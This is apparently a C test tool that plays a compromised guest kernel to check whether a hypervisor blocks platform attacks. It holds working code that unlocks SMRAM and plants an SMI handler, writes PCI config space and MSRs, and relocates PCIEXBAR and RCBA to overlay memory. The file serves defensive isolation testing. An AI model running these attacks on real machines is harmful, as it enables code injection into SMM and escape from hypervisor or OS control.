/* platform-attack: a hostile guest against the chipset, SMM and MSRs.
 *
 * Each command does what a compromised guest kernel would do to take the
 * platform from the hypervisor, and reports what it saw, so that a script
 * can tell "attack worked" (natively, with no hypervisor) from "attack
 * refused" (under shoji). PCI configuration goes through ports 0xCF8/0xCFC
 * (iopl), memory through /dev/mem (boot with iomem=relaxed), MSRs through
 * /dev/cpu/0/msr (the msr module). Register facts: Intel 3 Series Chipset
 * datasheet 5.1 (D0:F0), ICH9 datasheet 13.1 (D31:F0), QEMU q35.h/ich9.h. */
#include "common.h"

#include <fcntl.h>
#include <stdbool.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

static void usage(void)
{
	printf(
"usage: platform-attack COMMAND ARGS\n"
"Attacks on the platform registers, as root (iopl, /dev/mem, /dev/cpu/0/msr).\n"
"\n"
"commands:\n"
"  cfg-read BDF OFF SIZE          read configuration space (ports 0xCF8/0xCFC)\n"
"  cfg-write BDF OFF SIZE VALUE   write it; prints the dword before and after,\n"
"                                 then writes the old dword back at once (exit 0\n"
"                                 if the register changed, 2 if not)\n"
"  io-read PORT SIZE              inb/inw/inl (e.g. the ICH9 SMI_EN at PMBASE + 0x30)\n"
"  msr-read MSR                   rdmsr on CPU 0 (exit 2 if it faulted)\n"
"  msr-write MSR VALUE            wrmsr on CPU 0 (exit 0 if the CPU took it,\n"
"                                 2 if it faulted: EIO)\n"
"  smm MARKER                     SMRAM D_OPEN, plant an SMI handler at 0xA8000\n"
"                                 (SMBASE 0xA0000 + 0x8000) that increments the dword\n"
"                                 at physical MARKER, close, write APMC 0xB2, and look\n"
"                                 whether it ran (exit 0 if it did)\n"
"  ecam NEWBASE BDF OFF VALUE     move PCIEXBAR (256 MiB) to NEWBASE, write the\n"
"                                 dword through the moved window, read it back\n"
"                                 through 0xCF8, restore both (exit 0 if the write\n"
"                                 reached the device)\n"
"  ecam-write BASE BDF OFF SIZE VALUE\n"
"                                 cfg-write through the ECAM window at BASE (MMIO,\n"
"                                 not the ports); read back through 0xCF8, restore\n"
"  rcba TARGET                    write a pattern into the root complex register\n"
"                                 block, move RCBA to TARGET, look for the pattern\n"
"                                 there, restore RCBA (exit 0 if it appeared)\n"
"\n"
"BDF: bb:dd.f in hex. Numbers: decimal or 0x hex.\n"
"Output: 'guest: platform-attack COMMAND ... result=changed|unchanged|ok|fault|ran|...'\n"
"Exit status: 0 attack worked / access done, 1 usage or setup error, 2 refused.\n");
}

static void need_io(void)
{
	if (iopl(3))
		die(1, "iopl: %s", errname(errno));
}

static uint32_t parse_bdf(const char *s)
{
	unsigned b, d, f;

	if (sscanf(s, "%x:%x.%x", &b, &d, &f) != 3 || b > 255 || d > 31 || f > 7)
		die(1, "bad BDF '%s' (want bb:dd.f)", s);
	return b << 16 | d << 11 | f << 8;
}

static uint32_t cfg_read(uint32_t bdf, unsigned off, unsigned size)
{
	outl(0x80000000u | bdf | (off & 0xfc), 0xcf8);
	if (size == 1)
		return inb(0xcfc + (off & 3));
	if (size == 2)
		return inw(0xcfc + (off & 2));
	return inl(0xcfc);
}

static void cfg_write(uint32_t bdf, unsigned off, unsigned size, uint32_t v)
{
	outl(0x80000000u | bdf | (off & 0xfc), 0xcf8);
	if (size == 1)
		outb((uint8_t)v, 0xcfc + (off & 3));
	else if (size == 2)
		outw((uint16_t)v, 0xcfc + (off & 2));
	else
		outl(v, 0xcfc);
}

static unsigned check_size(uint64_t off, uint64_t size)
{
	if ((size != 1 && size != 2 && size != 4) || off > 0xff || off % size)
		die(1, "bad access: offset 0x%llx size %llu (1, 2 or 4 bytes, aligned, < 0x100)",
		    (unsigned long long)off, (unsigned long long)size);
	return (unsigned)size;
}

static int cmd_cfg(int argc, char **argv, bool write)
{
	uint32_t bdf, before, after;
	uint64_t off, size, v = 0;

	if (argc != (write ? 6 : 5))
		die(1, "%s needs BDF OFF SIZE%s", argv[1], write ? " VALUE" : "");
	need_io();
	bdf = parse_bdf(argv[2]);
	off = arg_u64("OFF", argv[3]);
	size = check_size(off, arg_u64("SIZE", argv[4]));
	if (!write) {
		say("cfg-read bdf=%s off=0x%llx size=%llu value=0x%x", argv[2],
		    (unsigned long long)off, (unsigned long long)size,
		    cfg_read(bdf, (unsigned)off, (unsigned)size));
		return 0;
	}
	v = arg_u64("VALUE", argv[5]);
	before = cfg_read(bdf, (unsigned)off & ~3u, 4);
	cfg_write(bdf, (unsigned)off, (unsigned)size, (uint32_t)v);
	after = cfg_read(bdf, (unsigned)off & ~3u, 4);
	cfg_write(bdf, (unsigned)off & ~3u, 4, before);	/* at once: the machine keeps working */
	say("cfg-write bdf=%s off=0x%llx size=%llu value=0x%llx before=0x%08x after=0x%08x "
	    "result=%s", argv[2], (unsigned long long)off, (unsigned long long)size,
	    (unsigned long long)v, before, after, before != after ? "changed" : "unchanged");
	return before != after ? 0 : 2;
}

static int cmd_io_read(int argc, char **argv)
{
	uint64_t port, size;
	uint32_t v;

	if (argc != 4)
		die(1, "io-read needs PORT SIZE");
	port = arg_u64("PORT", argv[2]);
	size = arg_u64("SIZE", argv[3]);
	if (port > 0xffff || (size != 1 && size != 2 && size != 4))
		die(1, "bad port 0x%llx or size %llu", (unsigned long long)port,
		    (unsigned long long)size);
	need_io();
	v = size == 1 ? inb((uint16_t)port) : size == 2 ? inw((uint16_t)port) : inl((uint16_t)port);
	say("io-read port=0x%llx size=%llu value=0x%x", (unsigned long long)port,
	    (unsigned long long)size, v);
	return 0;
}

static int msr_fd(int flags)
{
	int fd = open("/dev/cpu/0/msr", flags);

	if (fd < 0)
		die(1, "/dev/cpu/0/msr: %s (modprobe msr)", errname(errno));
	return fd;
}

static int cmd_msr(int argc, char **argv, bool write)
{
	uint64_t msr, v = 0;
	int fd;
	ssize_t n;

	if (argc != (write ? 4 : 3))
		die(1, "%s needs MSR%s", argv[1], write ? " VALUE" : "");
	msr = arg_u64("MSR", argv[2]);
	fd = msr_fd(write ? O_WRONLY : O_RDONLY);
	if (write) {
		v = arg_u64("VALUE", argv[3]);
		n = pwrite(fd, &v, 8, (off_t)msr);
	} else {
		n = pread(fd, &v, 8, (off_t)msr);
	}
	if (n != 8) {
		say("%s msr=0x%llx result=fault errno=%s", argv[1], (unsigned long long)msr,
		    errname(n < 0 ? errno : EIO));
		close(fd);
		return 2;
	}
	say("%s msr=0x%llx value=0x%llx result=ok", argv[1], (unsigned long long)msr,
	    (unsigned long long)v);
	close(fd);
	return 0;
}

/* /dev/mem mapping of one page-aligned range (exits on failure). */
static volatile uint8_t *map_phys(uint64_t pa, size_t len, int *fd)
{
	void *p;

	*fd = open("/dev/mem", O_RDWR | O_SYNC);
	if (*fd < 0)
		die(1, "/dev/mem: %s", errname(errno));
	p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, *fd, (off_t)pa);
	if (p == MAP_FAILED)
		die(1, "mmap 0x%llx+0x%zx: %s", (unsigned long long)pa, len, errname(errno));
	return p;
}

static void unmap_phys(volatile uint8_t *p, size_t len, int fd)
{
	munmap((void *)p, len);
	close(fd);
}

/* The SMRAM control register (Q35 MCH 0x9D) and its bits. */
#define MCH 0u
#define SMRAM_OFF 0x9d
#define D_OPEN 0x40
#define SMI_ENTRY 0xa8000u	/* SMBASE (SeaBIOS relocates it to 0xA0000) + 0x8000 */

/* Real-mode SMM entry code (CS.base = SMBASE, DS base 0, 4 GiB limits):
 *   66 67 ff 05 <marker>    inc dword [marker]   (a 32-bit physical address)
 *   0f aa                   rsm */
static size_t make_handler(uint8_t *h, uint32_t marker)
{
	static const uint8_t head[] = { 0x66, 0x67, 0xff, 0x05 };

	memcpy(h, head, 4);
	memcpy(h + 4, &marker, 4);
	h[8] = 0x0f;
	h[9] = 0xaa;
	return 10;
}

static int cmd_smm(int argc, char **argv)
{
	uint8_t smram, opened, handler[16];
	volatile uint8_t *p, *m;
	uint64_t marker;
	uint32_t counter = 0;
	size_t len;
	int fd, mfd, planted;

	if (argc != 3)
		die(1, "smm needs MARKER (a physical address /dev/mem may read and write)");
	marker = arg_u64("MARKER", argv[2]);
	if (marker >> 32 || (marker & 3))
		die(1, "MARKER must be a 4-byte aligned address below 4 GiB");
	len = make_handler(handler, (uint32_t)marker);
	need_io();
	m = map_phys(marker & ~0xfffULL, 4096, &mfd);
	*(volatile uint32_t *)(m + (marker & 0xfff)) = 0;
	smram = (uint8_t)cfg_read(MCH, SMRAM_OFF, 1);
	cfg_write(MCH, SMRAM_OFF, 1, smram | D_OPEN);
	opened = (uint8_t)cfg_read(MCH, SMRAM_OFF, 1);
	p = map_phys(SMI_ENTRY, 4096, &fd);
	for (size_t i = 0; i < len; i++)
		p[i] = handler[i];
	planted = !memcmp((const void *)p, handler, len);
	unmap_phys(p, 4096, fd);
	cfg_write(MCH, SMRAM_OFF, 1, smram & ~D_OPEN);	/* SMM code runs with SMRAM closed */
	outb(0x00, 0xb2);				/* APMC: raise an SMI */
	for (int i = 0; i < 200 && !counter; i++) {	/* the SMI is taken asynchronously */
		usleep(1000);
		counter = *(volatile uint32_t *)(m + (marker & 0xfff));
	}
	unmap_phys(m, 4096, mfd);
	say("smm smram=0x%02x after-open=0x%02x dopen=%s planted=%s marker=0x%llx counter=%u "
	    "result=%s", smram, opened, (opened & D_OPEN) ? "yes" : "no", planted ? "yes" : "no",
	    (unsigned long long)marker, counter, counter ? "ran" : "not-run");
	return counter ? 0 : 2;
}

/* PCIEXBAR (MCH 0x60): bit 0 enable, bits 2:1 length (0 = 256 MiB), base
 * 35:28 for 256 MiB (3 Series datasheet 5.1.16). */
#define PCIEXBAR 0x60

/* The same write as cfg-write, but through the firmware's ECAM window at
 * BASE (the MCFG's, which the guest's kernel uses): memory writes of SIZE
 * bytes, not port I/O. The register is read back through 0xCF8 (what the
 * device holds) and restored at once. */
static int cmd_ecam_write(int argc, char **argv)
{
	uint64_t base, off, size, v;
	uint32_t bdf, before, after;
	volatile uint8_t *p;
	int fd;

	if (argc != 7)
		die(1, "ecam-write needs BASE BDF OFF SIZE VALUE");
	need_io();
	base = arg_u64("BASE", argv[2]);
	bdf = parse_bdf(argv[3]);
	off = arg_u64("OFF", argv[4]);
	size = check_size(off, arg_u64("SIZE", argv[5]));
	v = arg_u64("VALUE", argv[6]);
	if (base & 0xfffffULL)
		die(1, "BASE must be 1 MiB aligned");
	before = cfg_read(bdf, (unsigned)off & ~3u, 4);
	/* ECAM offset: bus << 20 | dev << 15 | fn << 12 (bdf holds bus << 16 ...). */
	p = map_phys(base + ((uint64_t)(bdf >> 8) << 12), 4096, &fd);
	if (size == 1)
		*(volatile uint8_t *)(p + off) = (uint8_t)v;
	else if (size == 2)
		*(volatile uint16_t *)(p + off) = (uint16_t)v;
	else
		*(volatile uint32_t *)(p + off) = (uint32_t)v;
	unmap_phys(p, 4096, fd);
	after = cfg_read(bdf, (unsigned)off & ~3u, 4);
	cfg_write(bdf, (unsigned)off & ~3u, 4, before);
	say("ecam-write base=0x%llx bdf=%s off=0x%llx size=%llu value=0x%llx before=0x%08x "
	    "after=0x%08x result=%s", (unsigned long long)base, argv[3], (unsigned long long)off,
	    (unsigned long long)size, (unsigned long long)v, before, after,
	    before != after ? "changed" : "unchanged");
	return before != after ? 0 : 2;
}

static int cmd_ecam(int argc, char **argv)
{
	uint64_t base, off, v;
	uint32_t bdf, lo, hi, before, after;
	volatile uint8_t *p;
	int fd;

	if (argc != 6)
		die(1, "ecam needs NEWBASE BDF OFF VALUE");
	base = arg_u64("NEWBASE", argv[2]);
	bdf = parse_bdf(argv[3]);
	off = arg_u64("OFF", argv[4]);
	v = arg_u64("VALUE", argv[5]);
	if ((base & 0xfffffffULL) || base >> 32 || (off & 3) || off > 0xfc)
		die(1, "NEWBASE must be 256 MiB aligned below 4 GiB, OFF dword-aligned < 0x100");
	need_io();
	lo = cfg_read(MCH, PCIEXBAR, 4);
	hi = cfg_read(MCH, PCIEXBAR + 4, 4);
	before = cfg_read(bdf, (unsigned)off, 4);
	cfg_write(MCH, PCIEXBAR, 4, (uint32_t)base | 1);
	/* ECAM offset: bus << 20 | dev << 15 | fn << 12 (bdf holds bus << 16 ...). */
	p = map_phys(base + ((uint64_t)(bdf >> 8) << 12), 4096, &fd);
	*(volatile uint32_t *)(p + off) = (uint32_t)v;
	unmap_phys(p, 4096, fd);
	after = cfg_read(bdf, (unsigned)off, 4);
	cfg_write(bdf, (unsigned)off, 4, before);
	cfg_write(MCH, PCIEXBAR, 4, lo);
	say("ecam pciexbar=0x%08x%08x moved-to=0x%llx moved=%s bdf=%s off=0x%llx before=0x%08x "
	    "after=0x%08x result=%s", hi, lo, (unsigned long long)base,
	    cfg_read(MCH, PCIEXBAR, 4) == lo ? "restored" : "stuck", argv[3],
	    (unsigned long long)off, before, after, after != before ? "changed" : "unchanged");
	return after != before ? 0 : 2;
}

/* RCBA (LPC 00:1f.0 0xF0): base 31:14, bit 0 enable (ICH9 13.1.35). QEMU
 * stores what is written to most of the 16 KiB block. */
#define LPC (0x1fu << 11)
#define RCBA 0xf0
#define PATTERN_OFF 0x1000	/* plain storage in QEMU's model (not D31IP../GCS at 0x31xx-0x34xx) */

static int cmd_rcba(int argc, char **argv)
{
	uint64_t target;
	uint32_t rcba, moved;
	volatile uint8_t *p;
	uint8_t seen[16];
	int fd, hit;

	if (argc != 3)
		die(1, "rcba needs TARGET");
	target = arg_u64("TARGET", argv[2]);
	if ((target & 0x3fff) || target >> 32)
		die(1, "TARGET must be 16 KiB aligned below 4 GiB");
	need_io();
	rcba = cfg_read(LPC, RCBA, 4);
	if (!(rcba & 1))
		die(1, "RCBA is not enabled (0x%08x)", rcba);
	p = map_phys(rcba & ~0x3fffu, 0x4000, &fd);
	for (int i = 0; i < 16; i++)
		p[PATTERN_OFF + i] = (uint8_t)(0xa0 + i);
	unmap_phys(p, 0x4000, fd);
	cfg_write(LPC, RCBA, 4, (uint32_t)target | 1);
	moved = cfg_read(LPC, RCBA, 4);
	p = map_phys(target, 0x4000, &fd);
	for (int i = 0; i < 16; i++)
		seen[i] = p[PATTERN_OFF + i];
	unmap_phys(p, 0x4000, fd);
	cfg_write(LPC, RCBA, 4, rcba);
	hit = 1;
	for (int i = 0; i < 16; i++)
		hit &= seen[i] == (uint8_t)(0xa0 + i);
	say("rcba rcba=0x%08x target=0x%llx after-write=0x%08x restored=%s seen=%s result=%s",
	    rcba, (unsigned long long)target, moved,
	    cfg_read(LPC, RCBA, 4) == rcba ? "yes" : "no", hexhead(seen, 16),
	    hit ? "overlaid" : "not-overlaid");
	return hit ? 0 : 2;
}

int main(int argc, char **argv)
{
	prog_name = "platform-attack";
	if (want_help(argc, argv)) {
		usage();
		return 0;
	}
	if (argc < 2)
		die(1, "no command (see --help)");
	if (!strcmp(argv[1], "cfg-read"))
		return cmd_cfg(argc, argv, false);
	if (!strcmp(argv[1], "cfg-write"))
		return cmd_cfg(argc, argv, true);
	if (!strcmp(argv[1], "io-read"))
		return cmd_io_read(argc, argv);
	if (!strcmp(argv[1], "msr-read"))
		return cmd_msr(argc, argv, false);
	if (!strcmp(argv[1], "msr-write"))
		return cmd_msr(argc, argv, true);
	if (!strcmp(argv[1], "smm"))
		return cmd_smm(argc, argv);
	if (!strcmp(argv[1], "ecam"))
		return cmd_ecam(argc, argv);
	if (!strcmp(argv[1], "ecam-write"))
		return cmd_ecam_write(argc, argv);
	if (!strcmp(argv[1], "rcba"))
		return cmd_rcba(argc, argv);
	die(1, "unknown command '%s' (see --help)", argv[1]);
}
